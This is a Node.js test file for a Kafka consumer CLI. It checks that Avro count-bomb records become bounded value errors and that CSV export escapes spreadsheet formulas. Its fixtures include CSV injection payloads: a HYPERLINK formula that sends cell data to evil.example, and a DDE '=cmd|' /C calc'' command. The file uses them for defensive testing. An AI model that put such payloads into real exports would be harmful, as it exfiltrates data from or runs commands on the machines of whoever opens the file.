// The CLI on hostile values in a real topic (Tansu): Avro count bombs between good records
// (hostile-values.mjs) are each a value error, printed in their place, the records around them
// decoded, the whole run short and its memory bounded (the peak RSS measured and printed); CSV
// cells a spreadsheet would run are made text. Before the bounds the CLI died out of memory
// (exit 134) on the first bomb.
//   node --test tests/live/value-bombs.test.mjs
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { root } from '../js/helpers.mjs';
import { produce, startTansu } from './brokers.mjs';
import { bombTopic } from './hostile-values.mjs';
import { startRegistry } from './registry.mjs';

let tansu;
let registry;
let bombs;
let dir;
before(async () => {
  [tansu, registry] = await Promise.all([startTansu(), startRegistry()]);
  bombs = bombTopic(registry);
  await produce(tansu, { topic: bombs.topic, create: { partitions: 1 }, records: bombs.records });
  const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", '@SUM(1+1)', '+1+1', '-2+3', 'plain', '-1'];
  await produce(tansu, {
    topic: 'formulas',
    create: { partitions: 1 },
    records: formulas.map((v) => ({ partition: 0, value_b64: Buffer.from(v).toString('base64') })),
  });
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kfd-bombs-'));
  // the CLI's peak memory, written as it exits
  fs.writeFileSync(path.join(dir, 'rss.cjs'), "process.on('exit', () => process.stderr.write(`peak-rss-kib=${process.resourceUsage().maxRSS}\\n`));\n");
});
after(async () => {
  await Promise.all([tansu?.stop(), registry?.close()]);
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

function cli(args, timeout = 60_000) {
  return new Promise((resolve) => {
    const started = Date.now();
    execFile(
      process.execPath,
      ['-r', path.join(dir, 'rss.cjs'), path.join(root, 'pkg', 'cli.cjs'), ...args],
      { maxBuffer: 64 << 20, timeout },
      (error, stdout, stderr) => resolve({ code: error ? (error.code ?? error.signal) : 0, stdout, stderr, ms: Date.now() - started }),
    );
  });
}

test('consume --schema-registry --json: each bomb a value error in its place, the good records decoded, memory bounded', { timeout: 120_000 }, async (t) => {
  const run = await cli([
    'consume',
    '--bootstrap',
    tansu.bootstrap,
    '--topic',
    bombs.topic,
    '--from',
    'earliest',
    '--until-end',
    '--schema-registry',
    registry.url,
    '--json',
  ]);
  const peakMiB = Number(/peak-rss-kib=(\d+)/.exec(run.stderr)?.[1]) / 1024;
  t.diagnostic(`${bombs.expected.length} records in ${run.ms} ms, peak RSS ${peakMiB.toFixed(0)} MiB`);
  assert.equal(run.code, 0, run.stderr);
  const lines = run.stdout
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l));
  assert.equal(lines.length, bombs.expected.length, 'every record printed');
  lines.forEach((line, i) => {
    assert.equal(line.offset, String(i));
    const want = bombs.expected[i];
    if (want.bomb) {
      assert.equal(line.valueFormat, 'bytes', `offset ${i}: ${want.bomb}`);
      assert.match(line.valueError, /items that take no bytes|bytes are left/, `offset ${i}: ${want.bomb}`);
    } else {
      assert.deepEqual([line.valueFormat, line.value], ['avro', { n: want.n }], `offset ${i}`);
    }
  });
  assert.match(run.stderr, /5 values not decoded, kept as bytes/);
  assert.ok(peakMiB < 200, `peak RSS ${peakMiB} MiB`);
});

test("consume --format csv: cells a spreadsheet would run get a leading '; --csv-formulas keeps them as they are", { timeout: 60_000 }, async () => {
  const base = ['consume', '--bootstrap', tansu.bootstrap, '--topic', 'formulas', '--from', 'earliest', '--until-end', '--format', 'csv', '--encoding', 'utf8'];
  const values = (out) =>
    out
      .trim()
      .split('\n')
      .slice(1)
      .map((line) => /^formulas,0,\d+,\d+,,(.*),\[\],none,-?\d+$/.exec(line)?.[1] ?? line);
  const safe = await cli(base);
  assert.equal(safe.code, 0, safe.stderr);
  assert.deepEqual(values(safe.stdout), [
    '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
    "'=cmd|' /C calc'!A0",
    "'@SUM(1+1)",
    "'+1+1",
    "'-2+3",
    'plain',
    '-1',
  ]);
  const kept = await cli([...base, '--csv-formulas']);
  assert.deepEqual(values(kept.stdout), [
    '"=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '+1+1',
    '-2+3',
    'plain',
    '-1',
  ]);
});
